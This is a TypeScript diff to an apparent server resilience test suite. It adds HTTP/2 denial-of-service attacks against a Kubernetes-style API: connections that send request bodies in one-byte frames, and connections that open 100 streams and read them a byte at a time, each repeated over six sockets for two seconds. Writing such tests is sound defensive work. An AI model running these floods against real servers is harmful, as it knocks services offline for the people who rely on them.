@@ -7,7 +7,12 @@ import type { Attack, Attacker } from "./attack.js";
 
 const FLOOD_MS = 2_000;
 
-function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
+function frame(
+  type: number,
+  flags: number,
+  stream: number,
+  payload: Uint8Array = Buffer.alloc(0),
+): Buffer {
   const head = Buffer.alloc(9);
   head.writeUIntBE(payload.length, 0, 3);
   head.writeUInt8(type, 3);
@@ -30,9 +35,18 @@ async function openRaw(attacker: Attacker): Promise<TLSSocket> {
 
 /** Six connections write the same piece as fast as the server reads, for two seconds or until it closes them. */
 function flood(piece: Buffer): (attacker: Attacker) => Promise<void> {
+  return floodAfter(() => Buffer.alloc(0), piece);
+}
+
+/** The same behind a beginning of each connection. */
+function floodAfter(
+  begin: (attacker: Attacker) => Buffer,
+  piece: Buffer,
+): (attacker: Attacker) => Promise<void> {
   return (attacker) =>
     attacker.many(6, 6, async () => {
       const socket = await openRaw(attacker);
+      socket.write(begin(attacker));
       const endMs = performance.now() + FLOOD_MS;
       while (performance.now() < endMs && !socket.destroyed) {
         if (socket.write(piece)) await new Promise(setImmediate);
@@ -70,6 +84,27 @@ function resetOne(session: ClientHttp2Session, headers: Record<string, string>):
   const stream = session.request(headers);
   stream.on("error", () => {});
   stream.close(constants.NGHTTP2_CANCEL);
+}
+
+/** Headers of a request in HPACK, without its tables. */
+function requestHead({ token }: Attacker, method: string, path: string): Buffer {
+  const text = (value: string): Buffer => {
+    const bytes = Buffer.from(value);
+    if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
+    const rest = bytes.length - 127;
+    return Buffer.concat([Buffer.from([127, (rest & 127) | 128, rest >> 7]), bytes]);
+  };
+  const headers = {
+    ":method": method,
+    ":scheme": "https",
+    ":authority": "a",
+    ":path": path,
+    authorization: `Bearer ${token}`,
+    "content-type": "application/json",
+  };
+  return Buffer.concat(
+    Object.entries(headers).flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]),
+  );
 }
 
 /** What a client of TLS says first. */
@@ -126,6 +161,40 @@ export const CONNECTION_ATTACKS: readonly Attack[] = [
         const socket = await openRaw(attacker);
         socket.destroy();
       }),
+  },
+  {
+    name: "http/2: bodies in frames of a byte",
+    run: floodAfter(
+      (attacker) =>
+        frame(
+          1,
+          4,
+          1,
+          requestHead(attacker, "POST", "/api/v1/namespaces/red/configmaps?dryRun=All"),
+        ),
+      repeat(500, frame(0, 0, 1, Buffer.from(" "))),
+    ),
+  },
+  {
+    name: "http/2: a hundred lists that are read a byte at a time",
+    run: floodAfter(
+      (attacker) =>
+        Buffer.concat([
+          // An initial window of one byte.
+          frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 1])),
+          ...Array.from({ length: 100 }, (_, at) =>
+            frame(
+              1,
+              5,
+              1 + 2 * at,
+              requestHead(attacker, "GET", "/api/v1/namespaces/red/configmaps"),
+            ),
+          ),
+        ]),
+      Buffer.concat(
+        Array.from({ length: 100 }, (_, at) => frame(8, 0, 1 + 2 * at, Buffer.from([0, 0, 0, 1]))),
+      ),
+    ),
   },
   { name: "1,000 first messages of TLS at once", run: sayFirstTogether, isShort: true },
   {
